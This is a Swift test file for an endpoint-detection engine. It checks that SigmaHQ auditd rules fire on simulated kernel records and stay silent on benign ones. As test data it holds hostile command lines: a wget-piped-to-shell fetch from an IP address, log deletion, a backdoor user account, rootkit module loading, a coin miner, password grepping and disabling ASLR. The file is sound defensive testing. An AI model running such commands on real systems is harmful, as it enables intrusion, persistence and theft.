import Testing
import Foundation
@testable import EDRCore
@testable import EDRDetect
@testable import EDRSigma

/// SigmaHQ's auditd rules, loaded from the corpus (../shared/corpora/sigmahq from the repo
/// root), run by a real `Detector` on kernel records laid out byte for byte: each rule fires on
/// the auditd records built from our own events, and none fires on benign activity.
@Suite("auditd records from our events", .serialized)
struct AuditdRecordTests {
    static let corpus = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .deletingLastPathComponent().deletingLastPathComponent().appendingPathComponent("shared/corpora/sigmahq/rules/linux/auditd").path

    /// A detector with the corpus' auditd rules (and `extra` rule paths), its alerts in a file.
    final class Rig {
        let detector: Detector
        let store: DetectorStore
        let alertsPath: String
        let fd: Int32
        var seq: UInt64 = 1

        init(rules: [String], measureStages: Bool = false) throws {
            Log.setup(component: "edr-test", level: .error)
            alertsPath = NSTemporaryDirectory() + "auditd-alerts-\(UUID().uuidString).ndjson"
            fd = open(alertsPath, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0o600)
            store = try DetectorStore(
                sources: DetectorSources(
                    sigma: rules, yara: [], ioc: [],
                    sigmaOptions: DetectorLogSources.sigmaOptions(on: .linux)))
            var options = Detector.Options(
                respondEnabled: false, responseMinLevel: .critical,
                context: AlertContext(hostName: "test", hostID: "test"),
                machineID: "0123456789abcdef0123456789abcdef")
            options.measureStages = measureStages
            detector = Detector(store: store, sink: AlertSink(fd: fd), options: options)
        }

        deinit {
            close(fd)
            unlink(alertsPath)
        }

        func feed(_ payload: [UInt8]) throws {
            try detector.ingest(Frame(type: .kernelRecord, sequence: seq, payload: payload))
            seq += 1
        }

        /// pid 100 (the process telemetry records name) execs `path` with `args`.
        func exec(
            _ path: String, _ args: [String], uid: UInt32 = 0, euid: UInt32? = nil, comm: String? = nil,
            cwd: String = "/root", pid: UInt32 = 100
        ) throws {
            try feed(
                KernelRecordLayout.exec(
                    pid: pid, ppid: 1, uid: uid, euid: euid, start: 5_000_000_000, parentStart: 1_000_000_000,
                    args: args, path: path, cwd: cwd,
                    comm: comm ?? String((path.split(separator: "/").last ?? "").prefix(15))))
        }

        /// Rule ids of the alerts written since the last call.
        var consumed = 0
        func firedIDs() -> Set<String> {
            let text = (try? String(contentsOfFile: alertsPath, encoding: .utf8)) ?? ""
            let lines = text.split(separator: "\n").dropFirst(consumed)
            consumed += lines.count
            return Set(
                lines.compactMap { line -> String? in
                    guard let o = try? JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any],
                        let rule = o["rule"] as? [String: Any]
                    else { return nil }
                    return rule["id"] as? String
                })
        }
    }

    static func auditdRig() throws -> Rig {
        try #require(FileManager.default.fileExists(atPath: corpus), "SigmaHQ corpus missing at \(corpus)")
        return try Rig(rules: [corpus])
    }

    /// Each activity, and the SigmaHQ auditd rule (id, title) it must raise.
    nonisolated(unsafe) static let cases: [(activity: String, ruleID: String, title: String, act: (Rig) throws -> Void)] = [
        (
            "chattr -i", "a5b977d6-8a81-4475-91b9-49dbfcd941f7", "Remove Immutable File Attribute - Auditd",
            { try $0.exec("/usr/bin/chattr", ["chattr", "-i", "/etc/passwd"]) }
        ),
        (
            "systemctl start", "2625cc59-0634-40d0-821e-cb67382a3dd7", "Service Reload or Start - Linux",
            { try $0.exec("/usr/bin/systemctl", ["systemctl", "start", "evil.service"]) }
        ),
        (
            "insmod (a link to kmod)", "106d7cbd-80ff-4985-b682-a7043e5acb72", "Loading of Kernel Module via Insmod",
            { try $0.exec("/usr/bin/kmod", ["insmod", "/tmp/rootkit.ko"], comm: "insmod") }
        ),
        (
            "ufw delete", "323ff3f5-0013-4847-bbd4-250b5edb62cc", "Modify System Firewall",
            { try $0.exec("/usr/sbin/ufw", ["ufw", "delete", "allow", "22"]) }
        ),
        (
            "truncate -s (keywords)", "c52a914f-3d8b-4b2a-bb75-b3991e75f8ba", "Binary Padding - Linux",
            { try $0.exec("/usr/bin/truncate", ["truncate", "-s", "+5M", "/tmp/payload"]) }
        ),
        (
            "coin miner a1", "071d5e5a-9cef-47ec-bc4e-a42e34d8d0ed", "Possible Coin Miner CPU Priority Param",
            { try $0.exec("/tmp/xmrig", ["xmrig", "--cpu-priority=5"]) }
        ),
        (
            "touch a hidden file", "d08722cd-3d09-449a-80b4-83ea2d9d4616", "Hidden Files and Directories",
            { try $0.exec("/usr/bin/touch", ["touch", "/tmp/.hidden"]) }
        ),
        (
            "sysctl ASLR off", "e497a24e-9345-4a62-9803-b06d7d7cb132", "ASLR Disabled Via Sysctl or Direct Syscall - Linux",
            { try $0.exec("/usr/sbin/sysctl", ["sysctl", "-w", "kernel.randomize_va_space=0"]) }
        ),
        (
            "a program run from /tmp (SYSCALL exe)", "a39d7fa7-3fbd-4dc2-97e1-d87f546b1bbc", "Program Executions in Suspicious Folders",
            { try $0.exec("/tmp/implant", ["/tmp/implant"]) }
        ),
        (
            "a shell as www-data (SYSCALL euid)", "c0d3734d-330f-4a03-aae2-65dacc6a8222", "Webshell Remote Command Execution",
            { try $0.exec("/usr/bin/dash", ["sh", "-c", "true"], uid: 33, euid: 33) }
        ),
        (
            "split (SYSCALL comm)", "2dad0cba-c62a-4a4f-949f-5f6ecd619769", "Split A File Into Pieces - Linux",
            { try $0.exec("/usr/bin/split", ["split", "-b", "1M", "/tmp/loot"]) }
        ),
        (
            "useradd (SYSCALL exe)", "759d0d51-bc99-4b5e-9add-8f5b2c8e7512", "Creation Of An User Account",
            { try $0.exec("/usr/sbin/useradd", ["useradd", "backdoor"]) }
        ),
        (
            "a hidden binary run (PATH of the exec)", "9e1bef8d-0fff-46f6-8465-9aa54e128c1e", "Use Of Hidden Paths Or Files",
            { try $0.exec("/home/user/.local/.x/run", ["run"]) }
        ),
        (
            "a systemd unit created (PATH CREATE)", "1bac86ba-41aa-4f62-9d6b-405eac99b485", "Systemd Service Creation",
            { r in
                try r.exec("/usr/bin/python3.11", ["python3"])
                try r.feed(TelemetryBuilder.file(op: 1, dir1: "/etc/systemd/system", name1: "evil.service", openFlags: 0o101))
            }
        ),
        (
            "ld.so.preload written (PATH NORMAL)", "4b3cb710-5e83-4715-8c45-8b2b5b3e5751", "Modification of ld.so.preload",
            { r in
                try r.exec("/usr/bin/python3.11", ["python3"])
                try r.feed(TelemetryBuilder.file(op: 2, dir1: "/etc", name1: "ld.so.preload", openFlags: 0o1))
            }
        ),
        (
            "/etc/profile.d file deleted (PATH DELETE)", "a94cdd87-6c54-4678-a6cc-2814ffe5a13d", "Unix Shell Configuration Modification",
            { r in
                try r.exec("/usr/bin/rm", ["rm", "-f", "/etc/profile.d/x.sh"])
                try r.feed(TelemetryBuilder.file(op: 3, dir1: "/etc/profile.d", name1: "x.sh"))
            }
        ),
        (
            "memfd_create by ecasound (SYSCALL from an attack record)", "a7af2487-9c2f-42e4-9bb9-ff961f0561d5", "Audio Capture",
            { r in
                try r.exec("/usr/bin/ecasound", ["ecasound", "-i", "alsa"])
                try r.feed(TelemetryBuilder.attack(op: 14, result: 3, args: [1, 0, 0, 0], strings: ["buf"]))
            }
        ),
        (
            "syslog(2) clear (the sensor's syslog hook)", "eca5e022-d368-4043-98e5-9736fb01f72f",
            "Clear or Disable Kernel Ring Buffer Logs via Syslog Syscall",
            { r in
                try r.exec("/usr/bin/dmesg", ["dmesg", "-C"])
                try r.feed(TelemetryBuilder.attack(op: 18, result: 0, args: [5, 0, 0, 0]))
            }
        )
    ]

    @Test(arguments: 0..<cases.count)
    func aSigmaHQAuditdRuleFires(_ i: Int) throws {
        let c = Self.cases[i]
        let rig = try Self.auditdRig()
        let rule = try #require(rig.detectorRules.first { $0.id == c.ruleID }, "\(c.ruleID) is not a live rule of the corpus")
        #expect(rule.title == c.title)
        _ = rig.firedIDs()
        try c.act(rig)
        let fired = rig.firedIDs()
        #expect(fired.contains(c.ruleID), "\(c.activity): \(c.title) did not fire; fired: \(fired.sorted())")
    }

    /// Ordinary activity of the same shapes raises no auditd rule.
    @Test func benignActivityRaisesNoAuditdRule() throws {
        let rig = try Self.auditdRig()
        let auditd = Set(rig.detectorRules.filter { $0.logsource.service == "auditd" }.compactMap(\.id))
        try #require(auditd.count == 48)
        try rig.exec("/usr/bin/ls", ["ls", "-la", "/var/log"], uid: 1000, euid: 1000, cwd: "/home/user")
        try rig.exec("/usr/bin/git", ["git", "status"], uid: 1000, euid: 1000, cwd: "/home/user/src")
        try rig.exec("/usr/bin/chattr", ["chattr", "+i", "/srv/keep"])
        try rig.exec("/usr/bin/systemctl", ["systemctl", "status", "nginx"])
        try rig.exec("/usr/bin/python3.11", ["python3", "app.py"], uid: 1000, euid: 1000, cwd: "/home/user")
        try rig.feed(TelemetryBuilder.file(op: 1, dir1: "/home/user", name1: "notes.txt", openFlags: 0o101))
        try rig.feed(TelemetryBuilder.file(op: 2, dir1: "/etc", name1: "hosts", openFlags: 0o1))
        try rig.feed(TelemetryBuilder.attack(op: 14, result: 3, args: [1, 0, 0, 0], strings: ["jit"]))
        try rig.feed(TelemetryBuilder.net(local: "10.0.0.2", lport: 40000, remote: "10.0.0.1", rport: 443))
        let fired = rig.firedIDs().intersection(auditd)
        #expect(fired.isEmpty, "auditd rules fired on benign activity: \(fired.sorted())")
        // The corpus' rules read EXECVE, SYSCALL and PATH records only: 5 execs × 3, a create
        // (PARENT + CREATE), a write (NORMAL), memfd_create (SYSCALL), a connect (SYSCALL).
        #expect(rig.detector.auditd == AuditdRecords.Wanted(execve: true, syscall: true, path: true))
        #expect(rig.detector.counters.auditdRecords == 15 + 2 + 1 + 1 + 1)
    }

    /// `Options.measureStages` times each stage of handling a record (`edr-bench pipeline
    /// --stages`); without it no clock is read and the stages stay at zero.
    @Test func stagesAreTimedOnlyWhenAsked() throws {
        try #require(FileManager.default.fileExists(atPath: Self.corpus))
        for timed in [false, true] {
            let rig = try Rig(rules: [Self.corpus], measureStages: timed)
            try rig.exec("/usr/bin/chattr", ["chattr", "-i", "/etc/passwd"])
            try rig.feed(TelemetryBuilder.file(op: 1, dir1: "/etc/systemd/system", name1: "evil.service", openFlags: 0o101))
            let s = rig.detector.counters.stages
            let all = [s.decode, s.normalize, s.auditdRecords, s.detection]
            #expect(timed ? all.allSatisfy { $0 > 0 } : all.allSatisfy { $0 == 0 }, "measureStages \(timed): \(all)")
            #expect(rig.firedIDs().contains("a5b977d6-8a81-4475-91b9-49dbfcd941f7"), "the exec's auditd rule fires either way")
        }
    }

    /// The records an exec gives, field by field.
    @Test func anExecGivesSyscallExecveCwdPathAndProctitle() throws {
        let bytes = KernelRecordLayout.exec(
            pid: 4321, ppid: 1, uid: 1000, euid: 0, gid: 1001, egid: 1002, loginuid: 1003, start: 5_000_000_000,
            parentStart: 1_000_000_000, args: ["sudo", "cat", "/etc/my file"], path: "/usr/bin/sudo",
            cwd: "/home/u", comm: "sudo")
        guard case .exec(let r) = try KernelRecordDecoder.decode(bytes) else { Issue.record("not an exec"); return }
        var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
        let (_, p, _) = n.exec(r)
        let recs = AuditdRecords.exec(r, process: p, timestamp: 1)
        #expect(recs.map { $0["type"]?.stringValue ?? "" } == ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"])
        let sc = recs[0]
        #expect(sc["SYSCALL"] == "execve" && sc["success"] == "yes" && sc["exe"] == "/usr/bin/sudo" && sc["comm"] == "sudo")
        #expect(sc["uid"] == .int(1000) && sc["euid"] == .int(0) && sc["auid"] == .int(1003) && sc["gid"] == .int(1001) && sc["egid"] == .int(1002))
        #expect(sc["pid"] == .int(4321) && sc["ppid"] == .int(1) && sc["UID"] == .string(p.user))
        #if arch(x86_64)
        #expect(sc["syscall"] == .int(59) && sc["arch"] == "c000003e")
        #endif
        #expect(recs[1]["argc"] == .int(3) && recs[1]["a0"] == "sudo" && recs[1]["a2"] == "/etc/my file" && recs[1]["a3"] == nil)
        #expect(recs[2]["cwd"] == "/home/u")
        #expect(recs[3]["name"] == "/usr/bin/sudo" && recs[3]["nametype"] == "NORMAL" && recs[3]["inode"] == .int(4242))
        // Spaces and NULs: hex, as auditd writes it.
        #expect(recs[4]["proctitle"] == .string(Array("sudo\0cat\0/etc/my file".utf8).map { String(format2: $0) }.joined()))
        #expect(AuditdRecords.proctitle(Array("top\0".utf8)) == "top")
    }

    @Test func fileRecordsGiveParentAndItemPaths() throws {
        let t = Event(logsource: TelemetryNormalizer.fileEvent, timestamp: 1, fields: [("Image", .string("/usr/bin/mv"))])
        func paths(_ bytes: [UInt8]) throws -> [(String, String)] {
            let rec = try KernelRecordDecoder.decode(bytes)
            return AuditdRecords.telemetry(rec, event: t, process: nil).map { ($0["name"]?.stringValue ?? "", $0["nametype"]?.stringValue ?? "") }
        }
        #expect(
            try paths(TelemetryBuilder.file(op: 1, dir1: "/etc/cron.d", name1: "job", openFlags: 0o101)).map { "\($0.0) \($0.1)" }
                == ["/etc/cron.d PARENT", "/etc/cron.d/job CREATE"])
        #expect(
            try paths(TelemetryBuilder.file(op: 4, dir1: "/tmp", name1: "a", dir2: "/etc", name2: "b")).map { "\($0.0) \($0.1)" }
                == ["/tmp PARENT", "/etc PARENT", "/tmp/a DELETE", "/etc/b CREATE"])
        #expect(try paths(TelemetryBuilder.file(op: 2, dir1: "/", name1: "x", openFlags: 1)).map { "\($0.0) \($0.1)" } == ["/x NORMAL"])
    }

    @Test func socketCallsGiveSyscallAndSockaddr() throws {
        let rec = try KernelRecordDecoder.decode(TelemetryBuilder.net(local: "10.0.0.2", lport: 40000, remote: "10.1.2.3", rport: 443))
        let t = Event(logsource: TelemetryNormalizer.networkConnection, timestamp: 1, fields: [("Image", .string("/usr/bin/nc"))])
        let recs = AuditdRecords.telemetry(rec, event: t, process: nil)
        #expect(recs.count == 2 && recs[0]["SYSCALL"] == "connect" && recs[0]["exe"] == "/usr/bin/nc")
        #expect(recs[1]["type"] == "SOCKADDR" && recs[1]["saddr"] == .string("020001BB0A010203" + String(repeating: "0", count: 16)))
    }

    /// The auditd records cost nothing when no rule reads them.
    @Test func builtOnlyWhenARuleReadsThem() throws {
        let rules = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .deletingLastPathComponent().appendingPathComponent("rules/sigma").path
        let plain = try Rig(rules: [rules])
        #expect(!plain.detector.auditdWanted && plain.detector.auditd == .none)
        try plain.exec("/usr/bin/chattr", ["chattr", "-i", "/etc/passwd"])
        #expect(plain.detector.counters.auditdRecords == 0 && plain.detector.counters.events == 1)
        let audit = try Self.auditdRig()
        #expect(audit.detector.auditdWanted)
        try audit.exec("/usr/bin/chattr", ["chattr", "-i", "/etc/passwd"])
        #expect(audit.detector.counters.auditdRecords == 3 && audit.detector.counters.events == 1)
        // A rule that reads CWD records makes them be built; a rule of `product: linux` alone
        // makes none be built.
        let dir = NSTemporaryDirectory() + "auditd-rules-\(UUID().uuidString)"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try Self.cwdRule.write(toFile: dir + "/cwd.yml", atomically: true, encoding: .utf8)
        let cwd = try Rig(rules: [dir])
        #expect(cwd.detector.auditd == AuditdRecords.Wanted(cwd: true))
        try cwd.exec("/usr/bin/ls", ["ls"], cwd: "/srv/edr-cwd-test")
        #expect(cwd.detector.counters.auditdRecords == 1 && cwd.firedIDs() == ["00000000-0000-4000-9000-0000000000cd"])
        try Self.cwdRule.replacingOccurrences(of: "    service: auditd\n", with: "").write(toFile: dir + "/cwd.yml", atomically: true, encoding: .utf8)
        #expect(try Rig(rules: [dir]).detector.auditd == .none)
    }

    static let cwdRule = """
        title: cwd record
        id: 00000000-0000-4000-9000-0000000000cd
        logsource:
            product: linux
            service: auditd
        detection:
            selection:
                type: CWD
                cwd: /srv/edr-cwd-test
            condition: selection
        level: low
        """

    /// On the corpus, the auditd rules left inert are those that need what we never produce,
    /// each with its reason.
    @Test func inertAuditdRulesSayWhy() throws {
        try #require(FileManager.default.fileExists(atPath: Self.corpus))
        let engine = try SigmaEngine.load(paths: [Self.corpus], options: DetectorLogSources.sigmaOptions(on: .linux))
        var inert: [String: String] = [:]
        for d in engine.diagnostics { if case .inert(let r) = d.status { inert[d.ruleID ?? d.path] = r } }
        #expect(inert.count <= 5, "\(inert)")
        #expect(inert["f7158a64-6204-4d6d-868a-6e6378b467e0"]?.contains("field 'key'") == true)  // key: susp_activity
        #expect(inert["3761e026-f259-44e6-8826-719ed8079408"]?.contains("field 'key'") == true)  // key: network_connect_4
        #expect(inert["53059bc0-1472-438b-956a-7508a94a91f0"]?.contains("type 'service_stop'") == true)
        #expect(inert["b207d563-a1d9-4275-b349-77d1eb55aa6d"]?.contains("SYSCALL 'sysinfo'") == true)
        #expect(inert["710bdbce-495d-491d-9a8f-7d0d88d2b41e"]?.contains("SYSCALL 'mknod'") == true)
        let partial = engine.diagnostics.first { $0.ruleID == "49aae26c-450e-448b-911d-b3c13d178dfc" }
        #expect(partial?.status == .loaded && partial?.neverTrue.contains { $0.contains("type 'tty'") } == true)
    }

    /// The auditd rules compiled again per record type (`SigmaOptions.unitPerKind`): SigmaHQ's
    /// Linux rules, the `product: linux` ones folded in, match the same records either way, each
    /// rule once; an EXECVE-only rule is in the EXECVE unit alone (so SYSCALL and PATH records are
    /// not scanned for its keywords `0` and `6`); a record of a type no unit is for, or with its
    /// type in lower case, still reaches every rule it can match.
    @Test func theCorpusMatchesTheSameWithAUnitPerRecordType() throws {
        try #require(FileManager.default.fileExists(atPath: Self.corpus))
        let linux = (Self.corpus as NSString).deletingLastPathComponent
        var options = DetectorLogSources.sigmaOptions(on: .linux)
        let on = try SigmaEngine.load(paths: [linux], options: options)
        options.unitPerKind = false
        let off = try SigmaEngine.load(paths: [linux], options: options)
        #expect(on.units.compactMap(\.kind).sorted() == ["cwd", "execve", "path", "proctitle", "sockaddr", "syscall"])
        #expect(off.units.allSatisfy { $0.kind == nil })
        let shutdown = try #require(on.rules.firstIndex { $0.id == "4cb57c2f-1f29-41f8-893d-8bed8e1c1d2f" })
        for u in on.units where u.kind != nil {
            #expect(u.ruleGlobal.contains(Int32(shutdown)) == (u.kind == "execve"), "\(u.kind ?? "")")
        }

        // Every exec of the mix as its auditd records, staged commands the auditd and builtin
        // rules read, and hand-made records.
        var events: [Event] = []
        for e in SigmaEventMix.events(count: 1500) where e.logsource.category == "process_creation" {
            events += AuditdRecords.exec(event: e)
        }
        let commands = [
            "shutdown -h now", "init 0", "telinit 6", "reboot", "chattr -i /etc/passwd", "truncate -s +5M /tmp/p",
            "xmrig --cpu-priority=5", "grep -r password /etc", "insmod /tmp/r.ko", "rm -rf /var/log/syslog",
            "wget -q - http://198.51.100.7/x | sh", "useradd backdoor", "split -b 1M /tmp/loot", "systemctl start evil.service"
        ]
        for (k, line) in commands.enumerated() {
            let name = String(line.split(separator: " ")[0])
            for image in ["/usr/sbin/" + name, "/tmp/." + name] {
                events += AuditdRecords.exec(
                    event: Event(
                        logsource: LogSource(product: "linux", category: "process_creation"), timestamp: Double(k),
                        fields: [
                            ("Image", .string(image)), ("CommandLine", .string(line)), ("ProcessId", 4242), ("ParentProcessId", 1),
                            ("LogonId", 1000), ("User", "root"), ("CurrentDirectory", "/tmp")
                        ]))
            }
        }
        let ls = AuditdRecords.logSource
        events += [
            Event(logsource: ls, fields: [("type", "USER_CMD"), ("cmd", "rm -rf /var/log/syslog"), ("a0", "shutdown")]),
            Event(logsource: ls, fields: [("type", "execve"), ("argc", 2), ("a0", "shutdown"), ("a1", "-h")]),
            Event(logsource: ls, fields: [("type", "Execve"), ("argc", 2), ("a0", "init"), ("a1", 6)]),
            Event(logsource: ls, fields: [("type", .int(1)), ("a0", "reboot")]),
            Event(logsource: ls, fields: [("a0", "reboot"), ("a1", "now")])
        ]
        let (total, differences) = SigmaEventMix.compare(on, off, on: events)
        #expect(differences.isEmpty, "\(differences.count) records differ: \(differences.prefix(5))")
        #expect(total > 40, "the records hit rules: \(total) matches")
        // Lower case still reaches the EXECVE unit's rules.
        func ids(_ m: [SigmaMatch]) -> [String] { m.compactMap(\.rule.id) }
        #expect(ids(on.evaluate(events[events.count - 4])).contains("4cb57c2f-1f29-41f8-893d-8bed8e1c1d2f"))
        #expect(ids(on.evaluate(events[events.count - 3])).contains("4cb57c2f-1f29-41f8-893d-8bed8e1c1d2f"))
    }
}

extension AuditdRecordTests.Rig {
    /// The live detection rules.
    var detectorRules: [SigmaRuleInfo] { store.current.sigma.rules }
}
